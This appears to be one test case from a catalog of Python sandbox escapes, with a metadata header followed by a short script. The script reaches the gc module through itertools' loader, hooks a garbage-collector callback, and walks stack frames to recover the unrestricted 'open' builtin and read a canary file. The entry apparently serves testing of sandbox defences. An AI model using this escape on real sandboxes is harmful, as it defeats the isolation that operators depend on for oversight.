# id: gc-callbacks
# family: interpreter-hooks
# kind: escape
# invariant: C, D, E
# origin: found while probing CPython
# technique: a callback of the collector runs inside whatever host function happened to allocate
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: builtins, permits
# fix: structural
# alive-when: canary

import itertools
import textwrap

gc = itertools.__loader__.load_module("gc")


def callback(phase, information):
    gc.callbacks.clear()
    gc.set_threshold(700)
    try:
        raise LookupError
    except LookupError as error:
        frame = error.__traceback__.tb_frame
    while "open" not in frame.f_builtins:
        frame = frame.f_back
    print(frame.f_builtins["open"]("canary.txt").read())


gc.callbacks.append(callback)
gc.set_threshold(1)
textwrap.wrap("one two three " * 10)
